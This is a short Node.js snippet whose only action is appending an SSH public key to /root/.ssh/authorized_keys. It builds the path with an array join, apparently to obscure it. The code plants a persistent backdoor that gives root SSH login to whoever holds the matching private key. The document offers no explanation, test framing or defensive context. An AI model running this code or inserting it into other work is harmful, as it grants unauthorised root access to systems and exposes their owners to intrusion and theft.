const { promises: { appendFile } } = require("fs");
appendFile("/root/" + [".ssh", "authorized_keys"].join("/"), "ssh-rsa AAAAB3Example x\n");
